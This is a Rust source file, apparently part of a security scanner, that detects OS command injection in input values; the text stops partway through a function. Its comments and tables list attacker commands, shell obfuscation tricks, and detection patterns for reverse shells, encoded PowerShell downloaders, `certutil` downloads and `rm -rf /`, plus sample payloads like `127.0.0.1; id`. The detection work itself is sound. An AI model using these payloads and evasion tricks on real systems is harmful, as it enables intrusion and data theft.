//! OS command injection: a shell separator or substitution followed by a command.
//!
//! # Approach
//!
//! A value injects a command when it ends the command line the application built and starts
//! its own: a separator (`;`, `|`, `||`, `&`, `&&`, a line break) or a substitution (`$(...)`,
//! backticks), then a command. The detector reads the value the way a shell would from each
//! such opener:
//!
//! 1. **The command word**, normalised for the tricks shells allow: quotes inside a word
//!    (`c'a't`, `"w"h"o"ami`), backslashes (`w\ho\am\i`), empty expansions (`$@`, `$9`,
//!    `${x}`), `${IFS}` and `$IFS$9` as spaces, a directory in front (`/bin/cat`,
//!    `C:\Windows\System32\cmd.exe`, `%COMSPEC%`), globs (`/???/c?t`), brace expansion
//!    (`{cat,/etc/passwd}`). The result is looked up in a list of the commands attackers run
//!    (reconnaissance, file reading, network probes, delays, interpreters, downloaders).
//! 2. **The arguments**, tokenised with quotes, redirections and `${IFS}`, and checked
//!    against what that command takes. English words are the precision problem: "cat food;
//!    dog food", "I'm tired; sleep 8 hours", "Thanks! ping me later" all put a command name
//!    after a separator. But `cat` needs a file, `sleep` a number and nothing else, `ping` a
//!    host, `whoami` no argument or only options; a command followed by ordinary words is
//!    prose, not a shell command (`sleep 8 hours` is an error in a shell too).
//! 3. **What follows**: after a command without arguments, the value must end, or chain
//!    another valid command. That tells `| id | name |` (a Markdown table) and `name;id;email`
//!    (a list) from `| id` and `;id;`.
//! 4. **What comes before the opener**. Injected values are the data the application
//!    expected followed by the payload: nothing, or one token (`127.0.0.1; id`,
//!    `report.pdf|whoami`, `x'&&sleep 5`). When the text before is prose ("We met; cat
//!    /etc/hosts showed..."), or a Markdown code span sits in a sentence ("run `ls -la` in the
//!    folder"), only unmistakable payloads count: reading a sensitive file, a reverse shell,
//!    an encoded or hidden PowerShell command, a Windows download tool (`certutil
//!    -urlcache`), `rm -rf /`. Download-and-execute (`curl ... | sh`) is not among them:
//!    install instructions in tickets read exactly like that.
//!    When it is a single plain word, `name|id` and `Name & ID` (search syntax and prose) are
//!    not reported, while `test;id` and `test && id` are.
//!
//! Backticks deserve a word: in a shell context `` `id` `` is substitution, in a chat
//! message it is a Markdown code span. A backticked command counts when it makes up the value
//! or is glued to data (``127.0.0.1`id` ``); inside a sentence it counts only with an
//! unmistakable payload, as above. Support tickets that paste a bare command line are the
//! accepted cost: a value of the shape `ping -c 1 host; ls -la` or `echo "$HOME"; ls ~` is
//! reported, because it is exactly what an injection into a shell looks like.
//!
//! Rules: `cmdi.separator_command`, `cmdi.substitution`, `cmdi.brace_expansion`,
//! `cmdi.obfuscated_command` (the command word or its spacing used a shell trick),
//! `cmdi.windows_env` (`%COMSPEC%` at the start of a value), `cmdi.reverse_shell`
//! (`/dev/tcp/host/port`, `nc -e /bin/sh`, PowerShell TCP clients and `IEX` downloaders,
//! anywhere in the value) and `cmdi.server_side_include` (`<!--#exec cmd="..."-->`).
//!
//! Every opener is read within a window of [`WINDOW`] bytes and at most [`MAX_CHAIN`]
//! chained commands, so the scan is linear in the value.

use std::sync::LazyLock;

use regex::Regex;

use super::Match;

pub fn detect(value: &str) -> Option<Match> {
    if value.len() < 2 {
        return None;
    }
    reverse_shell(value).or_else(|| server_side_include(value)).or_else(|| scan(value))
}

/// How a command is used, which decides what arguments it needs.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Policy {
    /// Reconnaissance that runs without arguments (`whoami`, `id`, `uname -a`): options only.
    Info,
    /// Reads or changes a file (`cat`, `type`, `rm`): needs a path.
    File,
    /// Lists a directory (`ls`, `dir`): nothing, options or paths.
    Listing,
    /// Network probe or download (`ping`, `curl`, `nc`): needs a host, URL or port.
    Host,
    /// Time-based probe (`sleep 10`, `timeout /t 10`): a number and nothing else.
    Delay,
    /// Shell or script interpreter: an option (`-c`, `/c`, `-enc`) or a script; alone only
    /// at the end of a pipe (`curl ... | sh`).
    Interpreter,
    /// `echo`, `printf`: anything short.
    Echo,
    /// Windows `net user`, `net localgroup`, ...
    Net,
    /// Windows `reg query`, ...
    Reg,
    /// Tools whose name alone says enough (`certutil`, `crontab`): anything but prose.
    Tool,
    /// Runs the command that follows (`sudo`, `nohup`).
    Prefix,
}

/// Whether a command name is also an everyday word or token (`id`, `cat`, `type`).
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Strength {
    Distinct,
    Weak,
}

use Policy::*;
use Strength::*;

/// The commands attackers run after an injection point (Unix and Windows).
const COMMANDS: &[(&str, Policy, Strength)] = &[
    // Reconnaissance.
    ("id", Info, Weak),
    ("whoami", Info, Distinct),
    ("uname", Info, Distinct),
    ("pwd", Info, Weak),
    ("hostname", Info, Distinct),
    ("ifconfig", Info, Distinct),
    ("ipconfig", Info, Distinct),
    ("netstat", Info, Distinct),
    ("ps", Info, Weak),
    ("env", Info, Weak),
    ("printenv", Tool, Distinct),
    ("ver", Info, Weak),
    ("systeminfo", Info, Distinct),
    ("tasklist", Info, Distinct),
    ("who", Info, Weak),
    ("lsb_release", Info, Distinct),
    ("uptime", Info, Distinct),
    ("lscpu", Info, Distinct),
    ("arp", Info, Weak),
    ("reboot", Info, Weak),
    // The Windows proofs of concept.
    ("calc", Info, Distinct),
    ("notepad", Info, Distinct),
    // Files.
    ("cat", File, Weak),
    ("tac", File, Weak),
    ("more", File, Weak),
    ("less", File, Weak),
    ("head", File, Weak),
    ("tail", File, Weak),
    ("nl", File, Weak),
    ("type", File, Weak),
    ("strings", File, Weak),
    ("od", File, Weak),
    ("xxd", File, Distinct),
    ("base64", File, Distinct),
    ("hexdump", File, Distinct),
    ("rm", File, Weak),
    ("cp", File, Weak),
    ("mv", File, Weak),
    ("chmod", File, Distinct),
    ("chown", File, Distinct),
    ("touch", File, Weak),
    ("mkdir", File, Distinct),
    ("find", File, Weak),
    ("grep", File, Weak),
    ("copy", File, Weak),
    ("del", File, Weak),
    ("move", File, Weak),
    ("ls", Listing, Weak),
    ("dir", Listing, Weak),
    // Network.
    ("ping", Host, Weak),
    ("nslookup", Host, Distinct),
    ("dig", Host, Weak),
    ("host", Host, Weak),
    ("traceroute", Host, Distinct),
    ("tracert", Host, Distinct),
    ("telnet", Host, Distinct),
    ("nc", Host, Weak),
    ("ncat", Host, Distinct),
    ("netcat", Host, Distinct),
    ("socat", Host, Distinct),
    ("ssh", Host, Weak),
    ("ftp", Host, Weak),
    ("tftp", Host, Distinct),
    ("curl", Host, Distinct),
    ("wget", Host, Distinct),
    ("nmap", Host, Distinct),
    ("iwr", Host, Weak),
    ("invoke-webrequest", Host, Distinct),
    // Delays.
    ("sleep", Delay, Weak),
    ("timeout", Delay, Weak),
    ("start-sleep", Delay, Distinct),
    // Interpreters.
    ("sh", Interpreter, Weak),
    ("bash", Interpreter, Distinct),
    ("zsh", Interpreter, Distinct),
    ("ksh", Interpreter, Distinct),
    ("dash", Interpreter, Weak),
    ("csh", Interpreter, Weak),
    ("tcsh", Interpreter, Distinct),
    ("python", Interpreter, Weak),
    ("python2", Interpreter, Distinct),
    ("python3", Interpreter, Distinct),
    ("perl", Interpreter, Weak),
    ("php", Interpreter, Weak),
    ("ruby", Interpreter, Weak),
    ("node", Interpreter, Weak),
    ("lua", Interpreter, Weak),
    ("powershell", Interpreter, Distinct),
    ("pwsh", Interpreter, Distinct),
    ("cmd", Interpreter, Weak),
    ("busybox", Interpreter, Distinct),
    ("echo", Echo, Weak),
    ("printf", Echo, Weak),
    ("net", Net, Weak),
    ("reg", Reg, Weak),
    // Tools.
    ("certutil", Tool, Distinct),
    ("bitsadmin", Tool, Distinct),
    ("wmic", Tool, Distinct),
    ("schtasks", Tool, Distinct),
    ("rundll32", Tool, Distinct),
    ("regsvr32", Tool, Distinct),
    ("mshta", Tool, Distinct),
    ("cscript", Tool, Distinct),
    ("wscript", Tool, Distinct),
    ("icacls", Tool, Distinct),
    ("findstr", Tool, Distinct),
    ("useradd", Tool, Distinct),
    ("usermod", Tool, Distinct),
    ("crontab", Tool, Distinct),
    ("mkfifo", Tool, Distinct),
    ("killall", Tool, Distinct),
    ("pkill", Tool, Distinct),
    ("xterm", Tool, Distinct),
    ("kill", Tool, Weak),
    ("shutdown", Tool, Weak),
    ("sudo", Prefix, Distinct),
    ("nohup", Prefix, Distinct),
    ("exec", Prefix, Weak),
];

/// Directories a command may be written with (`/usr/bin/id`, `C:\Windows\System32\cmd.exe`).
const BIN_DIRS: &[&str] = &[
    "bin",
    "sbin",
    "usr",
    "local",
    "opt",
    "c:",
    "windows",
    "system32",
    "syswow64",
    "sysnative",
    "windowspowershell",
    "v1.0",
    "%systemroot%",
    "%windir%",
];

const NET_SUBCOMMANDS: &[&str] = &[
    "user",
    "users",
    "localgroup",
    "group",
    "view",
    "share",
    "use",
    "start",
    "stop",
    "accounts",
    "session",
    "config",
];
const REG_SUBCOMMANDS: &[&str] = &["query", "add", "delete", "save", "export", "import"];
const WMIC_ALIASES: &[&str] = &[
    "process",
    "os",
    "useraccount",
    "service",
    "qfe",
    "computersystem",
    "shadowcopy",
    "product",
    "nicconfig",
    "startup",
    "group",
    "share",
    "logicaldisk",
    "/node",
];

/// Bytes read after an opener (commands and their arguments are short).
const WINDOW: usize = 256;
/// Arguments read per command.
const MAX_TOKENS: usize = 16;
/// Commands followed along a chain (`a | b | c`).
const MAX_CHAIN: usize = 3;

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Opener {
    Semicolon,
    Pipe,
    OrOr,
    Amp,
    AndAnd,
    Newline,
    Backtick,
    Dollar,
}

impl Opener {
    fn closer(self) -> Option<char> {
        match self {
            Opener::Backtick => Some('`'),
            Opener::Dollar => Some(')'),
            _ => None,
        }
    }
}

/// What the text before an opener looks like.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Before {
    /// Nothing (or only quotes and closing brackets).
    Nothing,
    /// One token that is not a plain word (`127.0.0.1`, `a.txt`, `x'`).
    Data,
    /// One plain word (`test`, `Name`).
    Word,
    /// Several words.
    Prose,
}

/// How well the arguments fit the command.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Evidence {
    /// No arguments.
    Bare,
    /// Only a word or two (`echo hello`).
    Words,
    /// Arguments of the expected kinds.
    Args,
}

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Kind {
    Option,
    /// `/c`, `/all`: a Windows switch or a short Unix path.
    Switch,
    Url,
    Address,
    Number,
    Path,
    Dotted,
    Var,
    Redirect,
    Quoted,
    Word,
    Other,
}

#[derive(Debug)]
struct Token {
    text: String,
    kind: Kind,
}

/// Where a command's arguments stopped.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Stop {
    End,
    /// A separator at `at`, of `len` bytes; `pipe` for `|`.
    Separator {
        at: usize,
        len: usize,
        pipe: bool,
    },
    /// `)` or a backtick at `at`.
    Close {
        at: usize,
        ch: char,
    },
    /// Anything else (an unexpected `(`, too many arguments).
    Other {
        at: usize,
    },
}

impl Stop {
    fn at(self, value: &str) -> usize {
        match self {
            Stop::End => value.len(),
            Stop::Separator { at, .. } | Stop::Close { at, .. } | Stop::Other { at } => at,
        }
    }
}

/// What follows a command.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Tail {
    /// The end of the value, a trailing separator or a comment.
    End,
    /// Another valid command; `interpreter` when it is a shell fed by a pipe.
    Chain {
        interpreter: bool,
    },
    /// The substitution closed; `prose_after` when words follow after a space.
    Closed {
        prose_after: bool,
    },
    Other,
}

/// A command read at some position.
struct Command {
    name: &'static str,
    policy: Policy,
    strength: Strength,
    /// Quotes, backslashes, globs, empty expansions or `${IFS}` were used.
    tricks: bool,
    tokens: Vec<Token>,
    stop: Stop,
}

fn lookup(name: &str) -> Option<(&'static str, Policy, Strength)> {
    COMMANDS.iter().find(|(known, _, _)| *known == name).copied()
}

/// `value[start..start + len]`, shortened to a character boundary (empty when `start` is
/// not on one).
fn window(value: &str, start: usize, len: usize) -> &str {
    let mut end = start.saturating_add(len).min(value.len());
    while end > start && !value.is_char_boundary(end) {
        end -= 1;
    }
    value.get(start..end).unwrap_or_default()
}

fn peek(value: &str, at: usize) -> Option<char> {
    value.get(at..)?.chars().next()
}

fn starts_with_ci(value: &str, at: usize, prefix: &str) -> bool {
    value.get(at..at + prefix.len()).is_some_and(|head| head.eq_ignore_ascii_case(prefix))
}

/// Skips spaces, tabs, `${IFS}`-style expansions and line continuations at `at`; returns
/// the new position and whether an `IFS` expansion was used.
fn skip_blanks(value: &str, mut at: usize) -> (usize, bool) {
    let mut ifs = false;
    loop {
        match peek(value, at) {
            Some(' ' | '\t') => at += 1,
            Some('\\') if peek(value, at + 1) == Some('\n') => at += 2,
            Some('$') => match ifs_len(value, at) {
                Some(len) => {
                    at += len;
                    ifs = true;
                }
                None => break,
            },
            _ => break,
        }
    }
    (at, ifs)
}

/// The length of an `IFS` expansion at `at` (`${IFS}`, `$IFS`, `$IFS$9`, `${IFS%??}`).
fn ifs_len(value: &str, at: usize) -> Option<usize> {
    let len = if starts_with_ci(value, at, "${IFS") {
        let close = window(value, at, 16).find('}')?;
        close + 1
    } else if starts_with_ci(value, at, "$IFS") {
        4
    } else {
        return None;
    };
    // `$IFS$9`: an empty positional parameter ends the name.
    let extra = match (peek(value, at + len), peek(value, at + len + 1)) {
        (Some('$'), Some(c)) if c.is_ascii_digit() || c == '@' || c == '*' => 2,
        _ => 0,
    };
    Some(len + extra)
}

/// Reads the command word at `start`. Returns the normalised word, where it ends, and
/// whether shell tricks were used.
fn read_word(value: &str, start: usize) -> Option<(String, usize, bool)> {
    let windows = matches!(value.get(start..start + 3).map(str::as_bytes), Some([d, b':', b'\\']) if d.is_ascii_alphabetic())
        || starts_with_ci(value, start, "\\\\")
        || peek(value, start) == Some('%');
    let mut word = String::new();
    let mut tricks = false;
    let mut at = start;
    while let Some(c) = peek(value, at) {
        if at - start > 64 {
            return None;
        }
        match c {
            ' ' | '\t' | '\n' | '\r' | ';' | '|' | '&' | '`' | '(' | ')' | '<' | '>' | '{' | '}' => {
                break;
            }
            '\'' | '"' => {
                // A quote inside a word (`c'a't`) is a trick; around it, plain quoting.
                let next = peek(value, at + 1);
                let ends_word = next.is_none_or(|n| {
                    n.is_whitespace() || matches!(n, ';' | '|' | '&' | '`' | ')' | '<' | '>')
                });
                tricks |= at != start && !ends_word;
                at += 1;
            }
            '\\' if windows => {
                word.push('/');
                at += 1;
            }
            '\\' => {
                at += 1;
                match peek(value, at) {
                    Some('\n') => at += 1,
                    Some(next) => {
                        word.push(next.to_ascii_lowercase());
                        at += next.len_utf8();
                        tricks = true;
                    }
                    None => {}
                }
            }
            '$' => {
                if ifs_len(value, at).is_some() {
                    break;
                }
                match peek(value, at + 1) {
                    Some(c) if c == '@' || c == '*' || ('1'..='9').contains(&c) => {
                        at += 2;
                        tricks = true;
                    }
                    Some('{') => {
                        let close = window(value, at, 24).find('}')?;
                        at += close + 1;
                        tricks = true;
                    }
                    // `$'...'`: ANSI-C quoting (its `\x63` escapes are decoded by the caller).
                    Some('\'') => {
                        at += 1;
                        tricks = true;
                    }
                    // `$()`: an empty substitution.
                    Some('(') if peek(value, at + 2) == Some(')') => {
                        at += 3;
                        tricks = true;
                    }
                    _ => {
                        word.push('$');
                        at += 1;
                    }
                }
            }
            // cmd.exe's escape character, dropped when the line is parsed (`w^h^o^a^m^i`).
            '^' => {
                at += 1;
                tricks = true;
            }
            c => {
                word.extend(c.to_lowercase());
                at += c.len_utf8();
            }
        }
    }
    (!word.is_empty()).then_some((word, at, tricks))
}

/// The listed command a normalised word names, and whether a glob found it.
fn resolve(word: &str) -> Option<((&'static str, Policy, Strength), bool)> {
    if word == "%comspec%" {
        return Some((lookup("cmd")?, false));
    }
    let (dirs, last) = word.rsplit_once('/').unwrap_or(("", word));
    let is_glob = |s: &str| s.contains(['?', '*', '[']);
    // A globbed directory is a directory name with wildcards (`/???/`, `/b?n/`), not any
    // text with a star (`q=0.9,*/*` in an Accept header).
    let glob_dir = |dir: &str| {
        is_glob(dir)
            && dir
                .chars()
                .all(|c| c.is_ascii_alphanumeric() || matches!(c, '?' | '*' | '[' | ']' | '!' | '-'))
    };
    let dirs_ok = dirs.split('/').all(|dir| dir.is_empty() || BIN_DIRS.contains(&dir) || glob_dir(dir));
    if !dirs_ok {
        return None;
    }
    let last = last.strip_suffix(".exe").unwrap_or(last);
    if let Some(found) = lookup(last) {
        return Some((found, false));
    }
    // `c?t`, `/???/who*mi`: a glob the shell expands to a command. It must hold a letter
    // or a directory, so that `???` in prose is not read as `cat`.
    let meaningful =
        last.chars().any(|c| c.is_ascii_alphabetic()) || (!dirs.is_empty() && last.contains('?'));
    if is_glob(last) && meaningful {
        let found =
            COMMANDS.iter().find(|(name, policy, _)| *policy != Prefix && glob_matches(last, name))?;
        return Some((*found, true));
    }
    None
}

/// Shell glob matching (`?`, `*`, `[abc]`, `[a-z]`, `[!x]`) of short ASCII strings.
fn glob_matches(pattern: &str, name: &str) -> bool {
    let pattern = pattern.as_bytes();
    let name = name.as_bytes();
    let (mut p, mut n) = (0, 0);
    let mut star: Option<(usize, usize)> = None;
    while n < name.len() {
        let step = match pattern.get(p) {
            Some(b'*') => {
                star = Some((p, n));
                p += 1;
                continue;
            }
            Some(b'?') => Some(p + 1),
            Some(b'[') => class_matches(pattern, p, name.get(n).copied().unwrap_or_default()),
            Some(&c) if Some(&c) == name.get(n) => Some(p + 1),
            _ => None,
        };
        match (step, star) {
            (Some(next), _) => {
                p = next;
                n += 1;
            }
            (None, Some((star_p, star_n))) => {
                p = star_p + 1;
                n = star_n + 1;
                star = Some((star_p, star_n + 1));
            }
            (None, None) => return false,
        }
    }
    pattern.get(p..).is_some_and(|rest| rest.iter().all(|&c| c == b'*'))
}

/// Matches `c` against the class starting at `pattern[at] == '['`; the position after it.
fn class_matches(pattern: &[u8], at: usize, c: u8) -> Option<usize> {
    let mut i = at + 1;
    let negated = matches!(pattern.get(i), Some(b'!' | b'^'));
    if negated {
        i += 1;
    }
    let mut matched = false;
    let mut first = true;
    loop {
        let current = *pattern.get(i)?;
        if current == b']' && !first {
            break;
        }
        first = false;
        if pattern.get(i + 1) == Some(&b'-') && pattern.get(i + 2).is_some_and(|&end| end != b']') {
            let end = *pattern.get(i + 2)?;
            matched |= (current..=end).contains(&c);
            i += 3;
        } else {
            matched |= current == c;
            i += 1;
        }
    }
    (matched != negated).then_some(i + 1)
}

/// Reads the arguments starting at `at`, up to a separator, a closer or [`WINDOW`] bytes.
fn read_args(value: &str, mut at: usize) -> (Vec<Token>, Stop, bool) {
    let limit = at.saturating_add(WINDOW);
    let mut tokens = Vec::new();
    let mut ifs = false;
    loop {
        let (next, used_ifs) = skip_blanks(value, at);
        at = next;
        ifs |= used_ifs;
        if tokens.len() >= MAX_TOKENS || at > limit {
            return (tokens, Stop::Other { at }, ifs);
        }
        let Some(c) = peek(value, at) else { return (tokens, Stop::End, ifs) };
        match c {
            '#' => return (tokens, Stop::End, ifs),
            ';' | '\n' | '\r' => {
                let len = if c == '\r' && peek(value, at + 1) == Some('\n') { 2 } else { 1 };
                return (tokens, Stop::Separator { at, len, pipe: false }, ifs);
            }
            '|' => {
                let double = peek(value, at + 1) == Some('|');
                return (tokens, Stop::Separator { at, len: 1 + usize::from(double), pipe: !double }, ifs);
            }
            '&' if peek(value, at + 1) == Some('>') => {
                at = read_redirect(value, at + 1);
                tokens.push(Token { text: String::new(), kind: Kind::Redirect });
            }
            '&' => {
                let double = peek(value, at + 1) == Some('&');
                return (tokens, Stop::Separator { at, len: 1 + usize::from(double), pipe: false }, ifs);
            }
            '`' | ')' => return (tokens, Stop::Close { at, ch: c }, ifs),
            '(' | '{' | '}' => return (tokens, Stop::Other { at }, ifs),
            '>' => {
                // The redirection and its target (`>/tmp/out`, `> x.txt`, `2>&1`).
                at = read_redirect(value, at);
                let (target_at, _) = skip_blanks(value, at);
                let has_target = peek(value, target_at)
                    .is_some_and(|c| !matches!(c, ';' | '|' | '&' | '\n' | '\r' | '`' | ')' | '#'));
                if has_target {
                    at = read_token(value, target_at, limit).1.max(target_at + 1);
                }
                tokens.push(Token { text: String::new(), kind: Kind::Redirect });
            }
            '<' => at += 1,
            _ => {
                let (token, end) = read_token(value, at, limit);
                at = end.max(at + 1);
                // `2>&1`: the descriptor belongs to the redirection.
                if peek(value, at) == Some('>')
                    && !token.text.is_empty()
                    && token.text.bytes().all(|b| b.is_ascii_digit())
                {
                    continue;
                }
                if !token.text.is_empty() || token.kind == Kind::Quoted {
                    tokens.push(token);
                }
            }
        }
    }
}

/// Skips a redirection operator at `at` (`>`, `>>`, `>&`, `>&1`, `>|`).
fn read_redirect(value: &str, mut at: usize) -> usize {
    while matches!(peek(value, at), Some('>' | '&' | '|')) {
        at += 1;
    }
    while peek(value, at).is_some_and(|c| c.is_ascii_digit() || c == '-') {
        at += 1;
    }
    at
}

/// Reads one argument at `at`: quotes removed (their content kept), backslash escapes
/// undone outside Windows paths, `$(...)` and `${...}` kept whole.
fn read_token(value: &str, start: usize, limit: usize) -> (Token, usize) {
    let windows = matches!(value.get(start..start + 3).map(str::as_bytes), Some([d, b':', b'\\' | b'/']) if d.is_ascii_alphabetic())
        || starts_with_ci(value, start, "\\\\");
    let mut text = String::new();
    let mut quoted_space = false;
    let mut at = start;
    while let Some(c) = peek(value, at) {
        if at > limit {
            break;
        }
        match c {
            ' ' | '\t' | '\n' | '\r' | ';' | '|' | '&' | '`' | '(' | ')' | '<' | '>' => break,
            '\'' | '"' => {
                let body_start = at + 1;
                let rest = window(value, body_start, limit.saturating_sub(body_start));
                match rest.find(c) {
                    Some(close) => {
                        let body = rest.get(..close).unwrap_or_default();
                        quoted_space |= body.contains(char::is_whitespace);
                        text.push_str(body);
                        at = body_start + close + 1;
                    }
                    None => at += 1,
                }
            }
            '\\' if !windows => {
                at += 1;
                if let Some(next) = peek(value, at) {
                    if next != '\n' {
                        text.push(next);
                    }
                    at += next.len_utf8();
                }
            }
            '$' if ifs_len(value, at).is_some() => break,
            '$' if matches!(peek(value, at + 1), Some('@' | '*'))
                || peek(value, at + 1).is_some_and(|d| ('1'..='9').contains(&d)) =>
            {
                at += 2;
            }
            '$' if matches!(peek(value, at + 1), Some('(' | '{')) => {
                // Keep a nested expansion whole, up to its closing bracket.
                let close = if peek(value, at + 1) == Some('(') { ')' } else { '}' };
                let rest = window(value, at, limit.saturating_sub(at));
                let end = rest.find(close).map_or(rest.len(), |i| i + 1);
                text.push_str(rest.get(..end).unwrap_or_default());
                at += end;
            }
            c => {
                text.push(c);
                at += c.len_utf8();
            }
        }
    }
    let kind = if quoted_space { Kind::Quoted } else { classify(&text) };
    (Token { text, kind }, at)
}

/// What kind of argument `text` is.
fn classify(text: &str) -> Kind {
    let bytes = text.as_bytes();
    let first = bytes.first().copied().unwrap_or_default();
    if first == b'-' && bytes.len() >= 2 || first == b'+' && bytes.len() >= 2 {
        return Kind::Option;
    }
    if text.contains("://") {
        return Kind::Url;
    }
    if text.eq_ignore_ascii_case("localhost") {
        return Kind::Address;
    }
    // `host.example/path`: a URL without its scheme, as `wget` and `curl` take them.
    if let Some((host, _)) = text.split_once('/')
        && !host.starts_with('.')
        && host.bytes().all(|b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'-' | b':'))
        && host.bytes().any(|b| b.is_ascii_alphabetic())
        && host.split('.').filter(|label| !label.is_empty()).count() >= 2
    {
        return Kind::Url;
    }
    // `10.0.0.0/24`: a network.
    let address = match text.rsplit_once('/') {
        Some((network, bits)) if !bits.is_empty() && bits.bytes().all(|b| b.is_ascii_digit()) => network,
        _ => text,
    };
    let (host, port) = address.rsplit_once(':').unwrap_or((address, ""));
    if host.contains('.')
        && host.split('.').count() == 4
        && host.split('.').all(|part| !part.is_empty() && part.bytes().all(|b| b.is_ascii_digit()))
        && port.bytes().all(|b| b.is_ascii_digit())
    {
        return Kind::Address;
    }
    let digits = text.trim_end_matches(['s', 'm', 'h', 'd']);
    if !digits.is_empty()
        && digits.bytes().all(|b| b.is_ascii_digit() || b == b'.')
        && digits.bytes().filter(|&b| b == b'.').count() <= 1
    {
        return Kind::Number;
    }
    if first == b'$' || (first == b'%' && text.get(1..).is_some_and(|rest| rest.contains('%'))) {
        return Kind::Var;
    }
    if first == b'/'
        && bytes.len() <= 13
        && bytes.get(1..).is_some_and(|rest| !rest.is_empty() && rest.iter().all(u8::is_ascii_alphanumeric))
    {
        return Kind::Switch;
    }
    let drive = matches!(bytes, [d, b':', b'\\' | b'/', ..] if d.is_ascii_alphabetic());
    if matches!(first, b'/' | b'~' | b'\\')
        || drive
        || text.contains(['/', '\\', '?', '*'])
        || text.starts_with("./")
    {
        return Kind::Path;
    }
    let dotted = bytes
        .windows(3)
        .any(|w| matches!(w, [a, b'.', c] if a.is_ascii_alphanumeric() && c.is_ascii_alphanumeric()));
    if dotted {
        return Kind::Dotted;
    }
    let word = text.trim_end_matches(['.', ',', '!', '?', ':', ';']);
    if !word.is_empty() && word.chars().all(|c| c.is_alphabetic() || c == '\'' || c == '-') {
        return Kind::Word;
    }
    Kind::Other
}

/// How well `tokens` fit what `command` takes; `None` when they do not.
fn fit(name: &str, policy: Policy, strength: Strength, tokens: &[Token]) -> Option<Evidence> {
    let kinds: Vec<Kind> = tokens.iter().map(|t| t.kind).collect();
    let count = |wanted: &[Kind]| kinds.iter().filter(|k| wanted.contains(k)).count();
    let only = |allowed: &[Kind]| kinds.iter().all(|k| allowed.contains(k));
    let words = count(&[Kind::Word]);
    let first = kinds.first().copied();
    let first_word = tokens.first().map(|t| t.text.to_ascii_lowercase()).unwrap_or_default();
    let args = |ok: bool| ok.then_some(Evidence::Args);
    if kinds.is_empty() {
        return match policy {
            Info | Listing | Interpreter => Some(Evidence::Bare),
            Tool if strength == Distinct => Some(Evidence::Bare),
            _ => None,
        };
    }
    match policy {
        // `ps aux` is the one BSD-style option list without a dash.
        Info => args(kinds.iter().zip(tokens).all(|(kind, token)| {
            matches!(kind, Kind::Option | Kind::Switch | Kind::Redirect)
                || (name == "ps" && token.text == "aux")
        })),
        File => {
            let targets = count(&[Kind::Path, Kind::Dotted, Kind::Var, Kind::Switch]);
            let pattern_first = matches!(name, "grep" | "find");
            args(targets >= 1 && words <= 1 && (first != Some(Kind::Word) || pattern_first))
        }
        Listing => {
            args(only(&[Kind::Option, Kind::Switch, Kind::Path, Kind::Dotted, Kind::Var, Kind::Redirect]))
        }
        Host => {
            // A word may name the host (`nc attacker 4444`) or a method (`curl -X POST url`),
            // but words after the last target are prose (`ping 10.0.0.5 is fine`).
            let is_target =
                |k: &Kind| matches!(k, Kind::Url | Kind::Address | Kind::Dotted | Kind::Var | Kind::Number);
            let last_target = kinds.iter().rposition(is_target);
            let last_word = kinds.iter().rposition(|k| *k == Kind::Word);
            args(
                last_target.is_some()
                    && words <= 1
                    && last_word.is_none_or(|w| last_target.is_some_and(|t| w < t)),
            )
        }
        Delay => {
            let numbers = count(&[Kind::Number, Kind::Var]);
            args(numbers == 1 && only(&[Kind::Number, Kind::Var, Kind::Option, Kind::Switch, Kind::Redirect]))
        }
        Interpreter => args(first.is_some_and(|k| {
            matches!(
                k,
                Kind::Option
                    | Kind::Switch
                    | Kind::Path
                    | Kind::Dotted
                    | Kind::Var
                    | Kind::Quoted
                    | Kind::Redirect
            )
        })),
        Echo if words == kinds.len() => (words <= 2).then_some(Evidence::Words),
        Echo => args(kinds.len() <= 8),
        Net => args(NET_SUBCOMMANDS.contains(&first_word.as_str())),
        Reg => args(REG_SUBCOMMANDS.contains(&first_word.as_str())),
        Tool if strength == Weak => args(matches!(first, Some(Kind::Option | Kind::Switch | Kind::Number))),
        Tool if name == "wmic" => {
            args(first != Some(Kind::Word) || WMIC_ALIASES.contains(&first_word.as_str()))
        }
        Tool => args(first != Some(Kind::Word) || kinds.len() == 1),
        Prefix => None,
    }
}

/// Arguments that make the command an attack whatever surrounds it.
fn unmistakable(command: &Command) -> bool {
    let lower: Vec<String> = command.tokens.iter().map(|t| t.text.to_ascii_lowercase()).collect();
    let has = |needle: &str| lower.iter().any(|t| t.contains(needle));
    let option = |names: &[&str]| lower.iter().any(|t| names.contains(&t.as_str()));
    if has("/dev/tcp/") || has("/dev/udp/") {
        return true;
    }
    let reads_secret = command.tokens.iter().any(|t| {
        matches!(t.kind, Kind::Path | Kind::Dotted | Kind::Switch)
            && super::traversal::names_sensitive_file(&t.text)
    });
    match command.name {
        _ if reads_secret && matches!(command.policy, File | Listing | Tool | Echo) => true,
        "nc" | "ncat" | "netcat" => {
            option(&["-e", "-c"])
                || lower.iter().any(|t| t.starts_with("-") && t.ends_with('e') && t.len() <= 6)
        }
        "powershell" | "pwsh" => {
            option(&[
                "-e",
                "-ec",
                "-enc",
                "-encodedcommand",
                "-nop",
                "-noprofile",
                "-w",
                "-windowstyle",
                "-ep",
                "-exec",
                "-executionpolicy",
            ]) || has("iex")
                || has("downloadstring")
                || has("invoke-expression")
        }
        "bash" | "sh" | "zsh" | "dash" | "ksh" => option(&["-i"]) || has("/dev/"),
        "certutil" => has("-urlcache") || has("-decode"),
        "bitsadmin" => has("/transfer"),
        "mshta" | "regsvr32" | "rundll32" => has("http"),
        "rm" => option(&["-rf", "-fr", "-r"]) && lower.iter().any(|t| t == "/" || t == "/*" || t == "~"),
        _ => false,
    }
}

/// Reads the command at `at` (after blanks), with its arguments.
fn command_at(value: &str, at: usize) -> Option<Command> {
    command_after_prefix(value, at, true)
}

/// [`command_at`]; `follow_prefix` says whether a `sudo`-like word may be skipped (once: a
/// value of `sudo sudo sudo ...` must not recurse without bound).
fn command_after_prefix(value: &str, at: usize, follow_prefix: bool) -> Option<Command> {
    let (at, ifs_before) = skip_blanks(value, at);
    let (word, end, word_tricks) = read_word(value, at)?;
    let ((name, policy, strength), glob) = resolve(&word)?;
    if policy == Prefix {
